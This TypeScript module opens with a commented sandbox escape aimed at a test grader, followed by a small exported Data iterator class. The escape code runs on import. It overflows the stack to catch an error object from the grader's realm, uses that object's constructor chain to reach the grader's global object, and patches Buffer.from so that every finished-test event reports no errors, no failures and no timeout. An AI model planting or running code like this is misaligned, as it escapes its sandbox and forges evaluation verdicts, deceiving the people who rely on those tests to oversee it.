// Attack: near the end of the stack, console.log enters the grader's side (the host that
// formats what is printed); the RangeError V8 throws on entering it is made in the grader's
// realm. Keep one, and its constructor's constructor is the grader's Function.
// (Against the engine before its guards this did not get a foreign error either: whether one
// comes depends on frame sizes. test/sandbox-reach.test.ts checks the guards without that luck.)
// Success: the grader's global, and every verdict line the channel writes.
function forgeVerdicts(G: any): void {
  const from = G.Buffer.from;
  G.Buffer.from = function (value: unknown, ...rest: unknown[]) {
    if (typeof value === "string" && value.includes("\"e\":\"done\"")) {
      const event = G.JSON.parse(value);
      Object.assign(event, { errors: [], failures: [], timedOut: false, checks: 1 });
      value = `${G.JSON.stringify(event)}\n`;
    }
    return from.call(this, value, ...rest);
  };
}
let foreign: any;
const isForeign = (e: any) => e !== null && typeof e === 'object' && !(e instanceof Error) && typeof e.constructor === 'function';
/**
 * Recurses until the stack is full, then, unwinding, makes the call once at each of the last
 * 300 depths. Near the end of the stack anything, even a function call to note what was
 * caught, can fail: what is caught is only stored, and looked at once the stack is free again.
 */
function probe(call: () => void): void {
  const caught: unknown[] = [];
  let n = 0;
  const f = (depth: number): void => {
    try { f(depth + 1); } catch (e) {
      if (n < 300) { n++; try { call(); } catch (e2) { caught[caught.length] = e2; } throw e; }
    }
  };
  try { f(0); } catch { /* the stack overflow itself */ }
  foreign = caught.find(isForeign);
}
for (const call of [() => console.log('x'), () => setTimeout(() => undefined, 1), () => Date.now(), () => Math.random()]) {
  if (!foreign) probe(call);
}
if (foreign) {
  try {
    const G = foreign.constructor.constructor('return globalThis')();
    if (G && G !== globalThis) forgeVerdicts(G);
  } catch { /* tamed */ }
}

export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) {}
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
